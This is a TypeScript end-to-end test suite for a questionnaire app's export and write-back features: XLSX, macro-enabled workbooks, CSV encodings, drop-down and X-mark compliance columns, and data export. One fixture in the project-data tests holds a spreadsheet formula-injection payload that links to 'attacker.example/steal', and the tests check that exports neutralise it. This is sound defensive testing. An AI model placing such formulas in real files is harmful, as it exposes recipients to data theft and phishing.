/**
 * Downloads and exports end to end through the local gateway (issue 11 parts 6 and 7): the original
 * file unchanged, the project data as CSV and XLSX (formula-looking answers neutralised), the export
 * preview, and the browser-free round trip of write-back — a realistic questionnaire uploaded,
 * processed, configured from its detected layout, answered through the API, its wording set at
 * sheet, file and project level, exported in its own format, read back with a different library
 * from the one that wrote it (SheetJS for workbooks and CSV, mammoth for Word), then imported again
 * to find every answer where it belongs. PRIVATE projects answer 404; an unconfigured file 409.
 */
import { strFromU8, unzipSync } from 'fflate';
import mammoth from 'mammoth';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { readDocument } from '../../functions/common/formats/document';
import { type FamilyFixture, readFamilySet } from '../../scripts/fixtures/families';
import { macroQuestionnaire } from '../../scripts/fixtures/hostile-zips';
import { buildNumberedQuestionnaireDocx, buildQuestionnaireDocx } from '../../scripts/fixtures/word';
import {
  buildCaiqLikeXlsx,
  buildMarkColumnsXlsx,
  buildQuestionnaireCsv,
  buildQuestionnaireXlsx,
  type QuestionnaireRow,
} from '../../scripts/fixtures/workbooks';
import type { Classification } from '../../shared/schemas/question';
import {
  type Annotation,
  DATA_EXPORT_COLUMNS,
  type DocumentContent,
  type DocumentDetail,
  type ExportPreview,
  MACRO_WORKBOOK,
  type SheetContent,
  type SheetDetail,
  type Source,
} from '../../shared/schemas/source';
import { type ApiClient, client } from '../support/api-client';
import { startTestStack, type TestStack } from '../support/local-stack';
import { type Person, people } from '../support/people';
import { Resources } from '../support/resources';
import { importSource } from '../support/sources';

const resources = new Resources();
let stack: TestStack;
let api: ApiClient;
let manager: Person; // ROLE_MANAGER: creates projects, imports, sets wording
let member: Person; // ROLE_MEMBER: answers
let outsider: Person; // another team

const as = (person: Person) => api.as(person.token);

beforeAll(async () => {
  stack = await resources.start(startTestStack({ seed: false }), (s) => s.stop());
  api = client(stack);
  const { register, join } = people(stack, api);
  const owner = await register('olga@globex.test', 'Globex Assurance', {
    givenName: 'Olga',
    lastName: 'Owner',
  });
  [manager, member, outsider] = await Promise.all([
    join(owner, 'mark@globex.test', 'ROLE_MANAGER', { givenName: 'Mark', lastName: 'Manager' }),
    join(owner, 'mina@globex.test', 'ROLE_MEMBER', { givenName: 'Mina', lastName: 'Member' }),
    register('oscar@initrode.test', 'Initrode'),
  ]);
}, 180_000);
afterAll(() => resources.stopAll());

// ——— Helpers ———

function ok<T = any>(response: { status: number; body: any }, what: string): T {
  if (response.status !== 200)
    throw new Error(`${what}: HTTP ${response.status} ${JSON.stringify(response.body)}`);
  return response.body.data as T;
}

async function createProject(name: string) {
  return ok<{ projectId: string }>(
    await as(manager).call('createProject', { body: { name } }),
    'createProject',
  );
}

/** Uploads a file as the browser does (start, presigned POST, complete); it must turn READY. */
async function importFile(projectId: string, fileName: string, bytes: Uint8Array): Promise<Source> {
  const source = await importSource(as(manager), projectId, fileName, bytes);
  expect(source.failureReason).toBeUndefined();
  expect(source.status).toBe('READY');
  return source;
}

/** Confirms a sheet's detected layout, as a user who changes nothing would. */
async function configureAsSuggested(projectId: string, projectSourceId: string, sheetId: string) {
  const params = { projectId, projectSourceId, sheetId };
  const detail = ok<SheetDetail>(await as(manager).call('getSheet', { params }), 'getSheet');
  const result = ok<{ created: number; questionCount: number }>(
    await as(manager).call('configureSheet', {
      params,
      body: {
        columnClassifications: detail.suggestion.columnClassifications,
        isLinked: true,
        rowInclusion: detail.suggestion.questionRows.map((rowNumber) => ({ rowNumber, isLinked: true })),
        version: detail.version,
      },
    }),
    'configureSheet',
  );
  return { detail, result };
}

async function questionsOf(projectId: string) {
  const page = ok<{
    items: Array<{ questionId: string; referenceNumber?: string; question: string; answer: string }>;
  }>(
    await as(member).call('listQuestions', { params: { projectId }, query: { limit: 1000 } }),
    'listQuestions',
  );
  return page.items;
}

interface Answer {
  row: QuestionnaireRow;
  answer: string;
  classification: Classification;
}

/** Answers the questions of these rows (found by their reference) through the API. */
async function answer(projectId: string, answers: Answer[]) {
  const questions = await questionsOf(projectId);
  for (const { row, answer: text, classification } of answers) {
    const question = questions.find(
      (q) => q.referenceNumber === row.reference && q.question === row.question,
    );
    if (!question) throw new Error(`No question for row ${row.rowNumber} (${row.reference})`);
    ok(
      await as(member).call('updateQuestion', {
        params: { projectId, questionId: question.questionId },
        body: { answer: text, responseClassification: classification, responseStatus: 'COMPLETE' },
      }),
      'updateQuestion',
    );
  }
}

async function download(url: string) {
  const response = await fetch(url);
  expect(response.status).toBe(200);
  return {
    bytes: new Uint8Array(await response.arrayBuffer()),
    disposition: response.headers.get('content-disposition') ?? '',
  };
}

async function exportFile(projectId: string, body: Parameters<typeof exportBody>[0]) {
  const link = ok<{ url: string; fileName: string }>(
    await as(member).call('exportQuestions', { params: { projectId }, body: exportBody(body) }),
    'exportQuestions',
  );
  return { ...link, ...(await download(link.url)) };
}
const exportBody = (
  body:
    | { kind: 'DATA'; format: 'csv' | 'xlsx' }
    | { kind: 'SOURCE'; projectSourceId: string; encoding?: 'original' | 'utf-8' },
) => body;

const today = () => new Date().toISOString().slice(0, 10);

/** Every cell of a SheetJS sheet as 'A1' → displayed text. */
function cells(sheet: XLSX.WorkSheet) {
  return Object.fromEntries(
    Object.entries(sheet)
      .filter(([address]) => !address.startsWith('!'))
      .map(([address, cell]) => [address, String((cell as XLSX.CellObject).v ?? '')]),
  );
}

// ——— Spreadsheets ———

describe('an answered workbook, written back into the customer’s own file', () => {
  it('round-trips: import → configure → answer → wording → export → reopen with SheetJS → import again', async () => {
    // Prepare: a realistic questionnaire, imported and configured as detected, five answers.
    const built = await buildQuestionnaireXlsx({ questions: 40, title: 'Globex Vendor Security Assessment' });
    const { projectId } = await createProject('Globex Vendor Assessment 2025');
    const source = await importFile(projectId, 'Globex Vendor Security Assessment.xlsx', built.bytes);
    const sheet = source.sheets.find((s) => s.sheetIndex === built.sheetIndex);
    if (!sheet) throw new Error('The questionnaire sheet was not read');
    const { detail, result } = await configureAsSuggested(projectId, source.projectSourceId, sheet.sheetId);
    expect(detail.suggestion.columnClassifications).toEqual(
      expect.arrayContaining([
        { columnNumber: built.columns.question, columnType: 'QUESTION' },
        { columnNumber: built.columns.answer, columnType: 'ANSWER' },
        { columnNumber: built.columns.compliance, columnType: 'COMPLIANCE_STATUS' },
      ]),
    );
    expect(result.questionCount).toBe(built.rows.length);
    const answers: Answer[] = [
      {
        row: built.rows[0],
        answer: 'Yes. Data is encrypted at rest with AES-256.',
        classification: 'COMPLIANT',
      },
      { row: built.rows[3], answer: 'No, not yet: planned for Q3.', classification: 'NON-COMPLIANT' },
      {
        row: built.rows[7],
        answer: 'Partly — production only.\nStaging follows.',
        classification: 'PARTIALLY-COMPLIANT',
      },
      { row: built.rows[12], answer: 'We do not process card data.', classification: 'NOT-APPLICABLE' },
      { row: built.rows[39], answer: 'Reviewed quarterly by the CISO.', classification: 'COMPLIANT' },
    ];
    await answer(projectId, answers);
    // Wording at each level: the sheet's wins, then the file's, then the project's.
    const overrides = {
      [sheet.sheetId]: { compliant: 'Yes', nonCompliant: 'No' },
      [source.projectSourceId]: { partiallyCompliant: 'Partial', compliant: 'Met (file)' },
      [projectId]: { notApplicable: 'N/A', compliant: 'Met (project)' },
    };
    const saved = ok(
      await as(manager).call('updateComplianceOverrides', { params: { projectId }, body: { overrides } }),
      'updateComplianceOverrides',
    );
    const wording: Record<Classification, string> = {
      COMPLIANT: 'Yes',
      'NON-COMPLIANT': 'No',
      'PARTIALLY-COMPLIANT': 'Partial',
      'NOT-APPLICABLE': 'N/A',
      INCOMPLETE: '',
    };

    // Act
    const preview = ok(
      await as(member).call('previewExport', {
        params: { projectId },
        body: { kind: 'SOURCE', projectSourceId: source.projectSourceId },
      }),
      'previewExport',
    );
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: the wording levels as stored.
    expect(saved).toEqual(overrides);
    expect(ok(await as(member).call('getComplianceOverrides', { params: { projectId } }), 'get')).toEqual(
      overrides,
    );
    // The preview: every question of the file, where its answer goes.
    expect(preview.fileName).toBe('Globex Vendor Security Assessment (answered).xlsx');
    expect(preview.columns).toEqual(['Location', 'Question', 'Answer', 'Compliance']);
    expect(preview.questionCount).toBe(built.rows.length);
    expect(preview.answeredCount).toBe(answers.length);
    expect(preview.rows[0]).toEqual([
      `Questionnaire!D${built.rows[0].rowNumber}`,
      built.rows[0].question,
      answers[0].answer,
      'Yes',
    ]);
    expect(preview.rows[1]).toEqual([
      `Questionnaire!D${built.rows[1].rowNumber}`,
      built.rows[1].question,
      '',
      '',
    ]);
    // The file: saved under its name, each answer and wording in its mapped cells (read by SheetJS).
    expect(exported.fileName).toBe('Globex Vendor Security Assessment (answered).xlsx');
    expect(exported.disposition).toContain('attachment');
    expect(exported.disposition).toContain('answered');
    const original = XLSX.read(built.bytes, { type: 'array' });
    const written = XLSX.read(exported.bytes, { type: 'array' });
    expect(written.SheetNames).toEqual(['Instructions', 'Questionnaire']);
    const after = cells(written.Sheets.Questionnaire);
    const expected = cells(original.Sheets.Questionnaire);
    for (const { row, answer: text, classification } of answers) {
      expected[`D${row.rowNumber}`] = text;
      expected[`E${row.rowNumber}`] = wording[classification];
    }
    expect(after).toEqual(expected);
    // Everything else kept: the other sheet, merges, widths, drop-downs, the comment, frozen panes.
    expect(cells(written.Sheets.Instructions)).toEqual(cells(original.Sheets.Instructions));
    expect(written.Sheets.Questionnaire['!merges']).toEqual(original.Sheets.Questionnaire['!merges']);
    expect(written.Sheets.Questionnaire['!cols']).toEqual(original.Sheets.Questionnaire['!cols']);
    const parts = unzipSync(exported.bytes);
    const sheetXml = strFromU8(parts['xl/worksheets/sheet2.xml']);
    // The same drop-downs on the same ranges (the XML serialiser may escape quotes differently).
    const validations = (xml: string) =>
      /<dataValidations[\s\S]*<\/dataValidations>/.exec(xml)?.[0].replaceAll('&quot;', '"');
    const originalXml = strFromU8(unzipSync(built.bytes)['xl/worksheets/sheet2.xml']);
    expect(validations(sheetXml)).toContain('type="list"');
    expect(validations(sheetXml)).toBe(validations(originalXml));
    expect(sheetXml).toContain('ySplit="4"');
    expect(Object.keys(parts).some((name) => /^xl\/comments\d*\.xml$/.test(name))).toBe(true);

    // Act: the exported file imported as a new source of the project, configured as detected.
    const before = new Set((await questionsOf(projectId)).map((q) => q.questionId));
    const again = await importFile(projectId, exported.fileName, exported.bytes);
    const againSheet = again.sheets.find((s) => s.sheetIndex === built.sheetIndex);
    if (!againSheet) throw new Error('The questionnaire sheet of the export was not read');
    const reimported = await configureAsSuggested(projectId, again.projectSourceId, againSheet.sheetId);

    // Assess: the same layout is found, and its ANSWER and COMPLIANCE columns hold every answer.
    expect(reimported.detail.suggestion.columnClassifications).toEqual(
      detail.suggestion.columnClassifications,
    );
    expect(reimported.result.questionCount).toBe(built.rows.length);
    const content = (await (await fetch(reimported.detail.contentUrl)).json()) as SheetContent;
    const rowOf = (n: number) => content.rows.find((r) => r.rowNumber === n)?.cells ?? [];
    for (const { row, answer: text, classification } of answers) {
      expect(rowOf(row.rowNumber)[built.columns.question - 1]).toBe(row.question);
      expect(rowOf(row.rowNumber)[built.columns.answer - 1]).toBe(text);
      expect(rowOf(row.rowNumber)[built.columns.compliance - 1]).toBe(wording[classification]);
    }
    const unanswered = built.rows.filter((r) => !answers.some((a) => a.row === r));
    for (const row of unanswered) expect(rowOf(row.rowNumber)[built.columns.answer - 1] ?? '').toBe('');
    // ...and the questions the new import created carry them as their answers.
    const created = (await questionsOf(projectId)).filter((q) => !before.has(q.questionId));
    expect(created).toHaveLength(built.rows.length);
    for (const row of built.rows) {
      const given = answers.find((a) => a.row === row);
      expect(created.find((q) => q.referenceNumber === row.reference)?.answer).toBe(given?.answer ?? '');
    }
  });

  it('fills the answer column of a CSV questionnaire, in its own encoding and line endings', async () => {
    // Prepare
    const built = buildQuestionnaireCsv(12);
    const { projectId } = await createProject('Initech Supplier CSV');
    const source = await importFile(projectId, 'initech-supplier.csv', new TextEncoder().encode(built.text));
    await configureAsSuggested(projectId, source.projectSourceId, source.sheets[0].sheetId);
    const answers: Answer[] = [
      { row: built.rows[1], answer: 'Yes, "always" — see policy, section 4', classification: 'COMPLIANT' },
      { row: built.rows[5], answer: 'Two lines:\nfirst, then second', classification: 'PARTIALLY-COMPLIANT' },
    ];
    await answer(projectId, answers);

    // Act
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess
    expect(exported.fileName).toBe('initech-supplier (answered).csv');
    const text = new TextDecoder().decode(exported.bytes);
    expect(text.split('\r\n')[0]).toBe('ID,Category,Question,Answer');
    const rows = XLSX.utils.sheet_to_json<string[]>(
      XLSX.read(text, { type: 'string', raw: true }).Sheets.Sheet1,
      { header: 1, raw: false, defval: '' },
    );
    for (const row of built.rows) {
      const given = answers.find((a) => a.row === row);
      expect(rows[row.rowNumber - 1].slice(2, 4)).toEqual([row.question, given?.answer ?? '']);
    }
    expect(rows).toHaveLength(built.rows.length + 1);
  });

  it('refuses to export a file none of whose sheets is configured (409), and one that is not there (404)', async () => {
    // Prepare
    const built = await buildQuestionnaireXlsx({ questions: 5 });
    const { projectId } = await createProject('Unconfigured Import');
    const source = await importFile(projectId, 'Untouched.xlsx', built.bytes);
    const body = { kind: 'SOURCE' as const, projectSourceId: source.projectSourceId };
    // Act
    const exported = await as(member).call('exportQuestions', { params: { projectId }, body });
    const previewed = await as(member).call('previewExport', { params: { projectId }, body });
    const missing = await as(member).call('exportQuestions', {
      params: { projectId },
      body: { kind: 'SOURCE', projectSourceId: 'no-such-source' },
    });
    // Assess
    expect(exported.status).toBe(409);
    expect(exported.body.message).toBe(
      'None of the sheets of this file is configured yet. Configure a sheet before exporting the answered file.',
    );
    expect(previewed.status).toBe(409);
    expect(missing.status).toBe(404);
  });
});

describe('macro workbooks, protected sheets and legacy encodings (issue 27)', () => {
  /** Configures the "Questions" tab (Question in A, Answer in B, rows 2–5) and answers all four. */
  async function configureAndAnswer(projectId: string, source: Source) {
    const sheet = source.sheets.find((s) => s.sheetName === 'Questions');
    if (!sheet) throw new Error('no Questions tab');
    ok(
      await as(manager).call('configureSheet', {
        params: { projectId, projectSourceId: source.projectSourceId, sheetId: sheet.sheetId },
        body: {
          columnClassifications: [
            { columnNumber: 1, columnType: 'QUESTION' },
            { columnNumber: 2, columnType: 'ANSWER' },
          ],
          isLinked: true,
          rowInclusion: [2, 3, 4, 5].map((rowNumber) => ({ rowNumber, isLinked: true })),
          version: sheet.version,
        },
      }),
      'configureSheet',
    );
    const questions = await questionsOf(projectId);
    for (const question of questions) {
      ok(
        await as(member).call('updateQuestion', {
          params: { projectId, questionId: question.questionId },
          body: { answer: `Answer to: ${question.question.split('?')[0]}`, responseStatus: 'COMPLETE' },
        }),
        'updateQuestion',
      );
    }
    return questions;
  }

  it('imports an .xlsm (one renamed .xlsx too, and a plain workbook named .xlsm) by its bytes and writes it back with its VBA project, protection and locked cells untouched', async () => {
    // Prepare
    const { bytes, vbaProject } = macroQuestionnaire();
    const { projectId } = await createProject('SIG Lite 2026');
    const source = await importFile(projectId, 'SIG Lite 2026.xlsm', bytes);
    const other = await createProject('SIG renamed');
    const renamed = await importFile(other.projectId, 'SIG renamed.xlsx', bytes);
    // ...and the other way round: a plain workbook named .xlsm.
    const third = await createProject('Plain named xlsm');
    const plain = await importFile(
      third.projectId,
      'Plain.xlsm',
      macroQuestionnaire({ macroEnabled: false }).bytes,
    );
    const questions = await configureAndAnswer(projectId, source);
    await configureAndAnswer(other.projectId, renamed);
    await configureAndAnswer(third.projectId, plain);
    const body = { kind: 'SOURCE' as const, projectSourceId: source.projectSourceId };

    // Act
    const preview = ok<ExportPreview>(
      await as(member).call('previewExport', { params: { projectId }, body }),
      'previewExport',
    );
    const exported = await exportFile(projectId, body);
    const renamedPreview = ok<ExportPreview>(
      await as(member).call('previewExport', {
        params: { projectId: other.projectId },
        body: { kind: 'SOURCE', projectSourceId: renamed.projectSourceId },
      }),
      'previewExport',
    ).fileName;

    const plainExport = await exportFile(third.projectId, {
      kind: 'SOURCE',
      projectSourceId: plain.projectSourceId,
    });

    // Assess: all accepted by their bytes, tabs by their names, OOXML escapes decoded in the question texts.
    expect([source.macroEnabled, renamed.macroEnabled, plain.macroEnabled]).toEqual([true, true, undefined]);
    expect(plainExport.fileName).toBe('Plain (answered).xlsx');
    expect(unzipSync(plainExport.bytes)['xl/vbaProject.bin']).toBeUndefined();
    expect(source.sheets.map((s) => s.sheetName)).toEqual(['Instructions', 'Questions']);
    expect(questions.map((q) => q.question).sort()).toEqual([
      'Do you encrypt data at rest?\r\n(AES-256 or stronger)',
      'Do you have a written incident response plan?',
      'Do you run annual penetration tests?',
      'Is MFA enforced for admin_accounts?',
    ]);
    // The locked answer cells (B3, B5) are reported before download, and not written.
    const idOf = (start: string) => questions.find((q) => q.question.startsWith(start))?.questionId;
    expect(preview.fileName).toBe('SIG Lite 2026 (answered).xlsm');
    expect(preview.problems).toEqual([
      {
        questionId: idOf('Is MFA'),
        message: 'Not written: cell Questions!B3 is locked (the sheet is protected).',
      },
      {
        questionId: idOf('Do you have'),
        message: 'Not written: cell Questions!B5 is locked (the sheet is protected).',
      },
    ]);
    expect(renamedPreview).toBe('SIG renamed (answered).xlsm');
    expect(exported.fileName).toBe('SIG Lite 2026 (answered).xlsm');
    expect((await fetch(exported.url)).headers.get('content-type')).toBe(MACRO_WORKBOOK.contentType);
    const parts = unzipSync(exported.bytes);
    expect(parts['xl/vbaProject.bin']).toEqual(vbaProject);
    expect(strFromU8(parts['xl/worksheets/sheet1.xml'])).toContain('<sheetProtection sheet="1"');
    const book = XLSX.read(exported.bytes, { type: 'array' });
    expect(book.SheetNames).toEqual(['Instructions', 'Questions']);
    expect([2, 3, 4, 5].map((row) => book.Sheets.Questions[`B${row}`]?.v)).toEqual([
      'Answer to: Do you encrypt data at rest',
      undefined,
      'Answer to: Do you run annual penetration tests',
      undefined,
    ]);
  });

  it('lists the characters a Windows-1252 CSV cannot hold, refuses to write "?" for them, and writes UTF-8 when chosen', async () => {
    // Prepare
    const text =
      'Réf;Question;Réponse\r\n1;Chiffrez-vous les données ?;\r\n2;Journalisez-vous les accès ?;\r\n';
    const { projectId } = await createProject('Fournisseur CSV');
    const source = await importFile(
      projectId,
      'fournisseur.csv',
      new Uint8Array(Buffer.from(text, 'latin1')),
    );
    ok(
      await as(manager).call('configureSheet', {
        params: { projectId, projectSourceId: source.projectSourceId, sheetId: source.sheets[0].sheetId },
        body: {
          columnClassifications: [
            { columnNumber: 1, columnType: 'REFERENCE_NUMBER' },
            { columnNumber: 2, columnType: 'QUESTION' },
            { columnNumber: 3, columnType: 'ANSWER' },
          ],
          isLinked: true,
          rowInclusion: [2, 3].map((rowNumber) => ({ rowNumber, isLinked: true })),
        },
      }),
      'configureSheet',
    );
    const questions = await questionsOf(projectId);
    const first = questions.find((q) => q.question.startsWith('Chiffrez'));
    ok(
      await as(member).call('updateQuestion', {
        params: { projectId, questionId: first?.questionId ?? '' },
        body: { answer: 'Oui ✓ — AES-256 (日本)', responseStatus: 'COMPLETE' },
      }),
      'updateQuestion',
    );
    const body = { kind: 'SOURCE' as const, projectSourceId: source.projectSourceId };

    // Act
    const preview = ok<ExportPreview>(
      await as(member).call('previewExport', { params: { projectId }, body }),
      'previewExport',
    );
    const refused = await as(member).call('exportQuestions', { params: { projectId }, body });
    const utf8 = await exportFile(projectId, { ...body, encoding: 'utf-8' });

    // Assess
    expect(preview.unrepresentable).toEqual({ encoding: 'Windows-1252', characters: ['✓', '日', '本'] });
    expect(preview.problems).toEqual([
      {
        questionId: first?.questionId,
        referenceNumber: '1',
        message: 'Windows-1252 cannot hold “✓”, “日”, “本” of this answer.',
      },
    ]);
    expect(refused.status).toBe(409);
    expect(refused.body.message).toBe(
      'Some answers have characters this file’s encoding cannot hold. Choose “Write as UTF-8 instead” to export it, or change those answers.',
    );
    expect([...utf8.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(utf8.bytes.subarray(3))).toBe(
      'Réf;Question;Réponse\r\n1;Chiffrez-vous les données ?;Oui ✓ — AES-256 (日本)\r\n2;Journalisez-vous les accès ?;\r\n',
    );
  });
});

// ——— Drop-down and mark columns (issue 27 part 3) ———

/** Sets each question's classification (found by its reference) through the API. */
async function classify(projectId: string, classes: Map<string, Classification>) {
  for (const q of await questionsOf(projectId)) {
    const classification = q.referenceNumber ? classes.get(q.referenceNumber) : undefined;
    if (!classification) continue;
    ok(
      await as(member).call('updateQuestion', {
        params: { projectId, questionId: q.questionId },
        body: { responseClassification: classification },
      }),
      'updateQuestion',
    );
  }
}

describe('compliance written back as a value its drop-down allows, or as an X in the right column', () => {
  it('CAIQ-like: sections from the merged domain rows, every Yes / No / NA cell a listed value, a Partially reported', async () => {
    // Prepare: imported, configured as detected, every question classified (one Partially).
    const built = await buildCaiqLikeXlsx();
    const { projectId } = await createProject('CAIQ Review');
    const source = await importFile(projectId, 'CAIQv4.0.3.xlsx', built.bytes);
    const lists = source.sheets.find((s) => s.sheetName === 'Lists');
    const sheet = source.sheets.find((s) => s.sheetName === 'CAIQv4.0.3');
    if (!sheet || !lists) throw new Error('The CAIQ sheets were not read');
    const { detail, result } = await configureAsSuggested(projectId, source.projectSourceId, sheet.sheetId);
    const order: Classification[] = ['COMPLIANT', 'NON-COMPLIANT', 'NOT-APPLICABLE'];
    const classes = new Map(built.rows.map((row, i) => [row.reference, order[i % order.length]]));
    const partial = built.rows[4];
    classes.set(partial.reference, 'PARTIALLY-COMPLIANT');
    await classify(projectId, classes);
    const listed: Record<string, string> = {
      COMPLIANT: 'Yes',
      'NON-COMPLIANT': 'No',
      'NOT-APPLICABLE': 'NA',
    };

    // Act
    const preview = ok(
      await as(member).call('previewExport', {
        params: { projectId },
        body: { kind: 'SOURCE', projectSourceId: source.projectSourceId },
      }),
      'previewExport',
    );
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: the layout, the questions and their sections; the hidden list sheet gives none.
    expect(detail.suggestion.headerRow).toBe(built.headerRow);
    expect(detail.suggestion.columnClassifications).toEqual(
      expect.arrayContaining([
        { columnNumber: built.columns.question, columnType: 'QUESTION' },
        { columnNumber: built.columns.compliance, columnType: 'COMPLIANCE_STATUS' },
        { columnNumber: built.columns.answer, columnType: 'ANSWER' },
      ]),
    );
    expect(detail.suggestion.questionRows).toEqual(built.rows.map((r) => r.rowNumber));
    expect(result.questionCount).toBe(built.rows.length);
    expect(lists.hidden).toBe(true);
    const listsDetail = ok<SheetDetail>(
      await as(manager).call('getSheet', {
        params: { projectId, projectSourceId: source.projectSourceId, sheetId: lists.sheetId },
      }),
      'getSheet',
    );
    expect(listsDetail.suggestion.questionRows).toEqual([]);
    const questions = await questionsOf(projectId);
    for (const row of built.rows) {
      const q = questions.find((x) => x.referenceNumber === row.reference) as { sectionDescription?: string };
      expect(q?.sectionDescription, row.reference).toBe(row.section);
    }
    // The preview reports the one question the list has no value for, with its cell.
    expect(preview.notAllowedCount).toBe(1);
    expect(preview.notAllowed).toEqual([
      {
        location: `CAIQv4.0.3!C${partial.rowNumber}`,
        question: partial.question,
        compliance: 'Partially Compliant',
      },
    ]);
    // The file: every compliance cell holds a listed value (the Partially one left empty), nothing else changed.
    const original = XLSX.read(built.bytes, { type: 'array' });
    const written = XLSX.read(exported.bytes, { type: 'array' });
    const expected = cells(original.Sheets['CAIQv4.0.3']);
    for (const row of built.rows) {
      if (row !== partial) expected[`C${row.rowNumber}`] = listed[classes.get(row.reference) as string];
    }
    const after = cells(written.Sheets['CAIQv4.0.3']);
    expect(after).toEqual(expected);
    for (const row of built.rows.filter((r) => r !== partial))
      expect(built.allowed).toContain(after[`C${row.rowNumber}`]);
    expect(after[`C${partial.rowNumber}`]).toBeUndefined();
    expect(cells(written.Sheets.Lists)).toEqual(cells(original.Sheets.Lists));
  });

  it('X-mark columns: recognised as one answer, the example row left out, an X in the right column', async () => {
    // Prepare
    const built = await buildMarkColumnsXlsx();
    const { projectId } = await createProject('Supplier Marks');
    const source = await importFile(projectId, 'Supplier Questionnaire.xlsx', built.bytes);
    const sheet = source.sheets[0];
    const { detail, result } = await configureAsSuggested(projectId, source.projectSourceId, sheet.sheetId);
    const imported = await questionsOf(projectId);
    const importedClass = (
      imported.find((q) => q.referenceNumber === built.rows[1].reference) as {
        responseClassification?: string;
      }
    )?.responseClassification;
    const order: Classification[] = ['COMPLIANT', 'NOT-APPLICABLE', 'NON-COMPLIANT'];
    const classes = new Map(built.rows.map((row, i) => [row.reference, order[i % order.length]]));
    const partial = built.rows[9];
    classes.set(partial.reference, 'PARTIALLY-COMPLIANT');
    await classify(projectId, classes);
    const columnOf: Record<string, number> = {
      COMPLIANT: built.columns.yes,
      'NON-COMPLIANT': built.columns.no,
      'NOT-APPLICABLE': built.columns.notApplicable,
    };

    // Act
    const preview = ok(
      await as(member).call('previewExport', {
        params: { projectId },
        body: { kind: 'SOURCE', projectSourceId: source.projectSourceId },
      }),
      'previewExport',
    );
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: three mark columns, the example row not a question, the file's own mark imported.
    expect(detail.suggestion.columnClassifications.map((c) => c.columnType)).toEqual([
      'REFERENCE_NUMBER',
      'QUESTION',
      'COMPLIANCE_MARK',
      'COMPLIANCE_MARK',
      'COMPLIANCE_MARK',
      'ANSWER',
    ]);
    expect(detail.suggestion.questionRows).toEqual(built.rows.map((r) => r.rowNumber));
    expect(result.questionCount).toBe(built.rows.length);
    expect(importedClass).toBe('NON-COMPLIANT');
    expect(preview.notAllowed?.map((n: { location: string }) => n.location)).toEqual([
      `'Supplier Questionnaire'!C${partial.rowNumber}`,
    ]);
    // The file: one X per classified row in its column (row 4's old No mark moved to N/A), the example
    // row and every other cell as they were.
    const letter = (column: number) => String.fromCharCode(64 + column);
    const original = XLSX.read(built.bytes, { type: 'array' });
    const written = XLSX.read(exported.bytes, { type: 'array' });
    const expected = cells(original.Sheets['Supplier Questionnaire']);
    for (const row of built.rows) {
      if (row === partial) continue;
      for (const column of [built.columns.yes, built.columns.no, built.columns.notApplicable])
        delete expected[`${letter(column)}${row.rowNumber}`];
      expected[`${letter(columnOf[classes.get(row.reference) as string])}${row.rowNumber}`] = 'X';
    }
    const after = cells(written.Sheets['Supplier Questionnaire']);
    // A cleared mark reads as no cell; the builder's empty strings likewise.
    for (const shown of [after, expected])
      for (const [address, value] of Object.entries(shown)) if (value === '') delete shown[address];
    expect(after).toEqual(expected);
    expect(after[`D${built.rows[1].rowNumber}`]).toBeUndefined();
    expect(after[`E${built.rows[1].rowNumber}`]).toBe('X');
    expect(after[`C${built.exampleRow}`]).toBe('X');
  });
});

// ——— Project data ———

describe('the project data as CSV and XLSX', () => {
  let projectId: string;
  const projectName = 'Umbrella: Q3/Q4 Review';
  const formula = '=HYPERLINK("http://attacker.example/steal","Click for details")';

  beforeAll(async () => {
    ({ projectId } = await createProject(projectName));
    const added = [];
    for (const question of [
      'Do you perform background checks on new employees?',
      'Is customer data encrypted in transit?',
      'Describe your incident response process.',
    ]) {
      added.push(
        ok<{ questionId: string }>(
          await as(member).call('addQuestion', { params: { projectId }, body: { question } }),
          'addQuestion',
        ),
      );
    }
    const update = (questionId: string, body: Record<string, unknown>) =>
      as(member).call('updateQuestion', { params: { projectId, questionId }, body: body as never });
    ok(
      await update(added[0].questionId, {
        answer: 'Yes, for all staff.',
        responseClassification: 'COMPLIANT',
        responseStatus: 'COMPLETE',
        assignedToUserId: member.userId,
      }),
      'update',
    );
    ok(
      await update(added[1].questionId, { answer: formula, responseClassification: 'NON-COMPLIANT' }),
      'update',
    );
    ok(
      await as(manager).call('updateComplianceOverrides', {
        params: { projectId },
        body: { overrides: { [projectId]: { compliant: 'Yes' } } },
      }),
      'wording',
    );
  });

  it('writes a CSV with the header, one row per question and formula-looking answers neutralised', async () => {
    // Act
    const exported = await exportFile(projectId, { kind: 'DATA', format: 'csv' });
    // Assess
    expect(exported.fileName).toBe(`Umbrella Q3 Q4 Review - Export ${today()}.csv`);
    expect(exported.disposition).toContain('attachment');
    const text = new TextDecoder().decode(exported.bytes).replace(/^\uFEFF/, '');
    const rows = XLSX.utils.sheet_to_json<string[]>(
      XLSX.read(text, { type: 'string', raw: true }).Sheets.Sheet1,
      { header: 1, raw: false, defval: '' },
    );
    expect(rows[0]).toEqual([...DATA_EXPORT_COLUMNS]);
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      '',
      '',
      'Do you perform background checks on new employees?',
      'Yes, for all staff.',
      'Yes',
      'Complete',
      'Mina Member',
      '',
      '',
    ]);
    expect(rows[2][3]).toBe(`'${formula}`);
    expect(rows[2].slice(4, 6)).toEqual(['Non-Compliant', 'In Progress']);
    expect(rows[3].slice(3, 6)).toEqual(['', '', 'Incomplete']);
  });

  it('writes an XLSX whose cells are all text, never formulas', async () => {
    // Act
    const exported = await exportFile(projectId, { kind: 'DATA', format: 'xlsx' });
    // Assess
    expect(exported.fileName).toBe(`Umbrella Q3 Q4 Review - Export ${today()}.xlsx`);
    const book = XLSX.read(exported.bytes, { type: 'array', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]];
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, defval: '' });
    expect(rows[0]).toEqual([...DATA_EXPORT_COLUMNS]);
    expect(rows).toHaveLength(4);
    expect(rows[1].slice(2, 7)).toEqual([
      'Do you perform background checks on new employees?',
      'Yes, for all staff.',
      'Yes',
      'Complete',
      'Mina Member',
    ]);
    const formulaCells = Object.entries(sheet).filter(
